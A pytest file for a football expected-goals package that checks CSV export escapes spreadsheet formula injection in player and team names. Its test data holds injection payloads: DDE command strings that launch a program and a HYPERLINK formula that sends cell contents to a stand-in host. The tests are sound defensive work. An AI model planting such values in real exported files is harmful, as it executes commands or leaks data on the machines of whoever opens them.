"""A spreadsheet runs nothing that a feed has written into a name, and programs read back what was there."""

import pandas as pd
import pytest

from xgoals.outputs.tables import without_formulas, write_table

NAMES = ['=HYPERLINK("http://x"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\tx", "\rx", "\uff1d1+1"]
HARMLESS = ["O'Neill", "Müller-Wohlfahrt", "", None, "-12", "+0.5", "a=b", "'quoted"]


def test_text_that_looks_like_a_formula_is_text_and_numbers_are_numbers(tmp_path):
    values = [-1.5 - n for n in range(len(NAMES) + len(HARMLESS))]
    frame = pd.DataFrame({"player": [*NAMES, *HARMLESS], "xg": values, "minute": range(len(values))})
    assert write_table(frame, tmp_path / "shots.csv") == len(frame)
    back = pd.read_csv(tmp_path / "shots.csv", keep_default_na=False, lineterminator="\n")
    assert back["player"].tolist() == [*(f"'{name}" for name in NAMES), *(name or "" for name in HARMLESS)]
    assert back["xg"].tolist() == values
    without = back["player"].str.replace(r"^'(?=[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20])", "", regex=True)
    assert without.tolist() == [*NAMES, *(name or "" for name in HARMLESS)]


@pytest.mark.parametrize("kind", ["object", "string", "category"])
def test_every_kind_of_text_column(kind):
    frame = pd.DataFrame({"team": pd.Series(["=1", "a"], dtype=kind), "n": [1, 2]})
    assert without_formulas(frame)["team"].tolist() == ["'=1", "a"]


def test_titles_of_a_table_of_one_s_own_are_no_formulas_and_a_return_ends_no_row(tmp_path):
    frame = pd.DataFrame({"=cmd|'/c x'!A1": ["a\rb"], "xg": [0.5]})
    assert list(without_formulas(frame)) == ["'=cmd|'/c x'!A1", "xg"]
    write_table(frame, tmp_path / "shots.csv")
    assert (tmp_path / "shots.csv").read_bytes() == b'"\'=cmd|\'/c x\'!A1","xg"\n"a\rb",0.5\n'


def test_parquet_keeps_the_names_as_they_are(tmp_path):
    write_table(pd.DataFrame({"player": NAMES}), tmp_path / "shots.parquet")
    assert pd.read_parquet(tmp_path / "shots.parquet")["player"].tolist() == NAMES
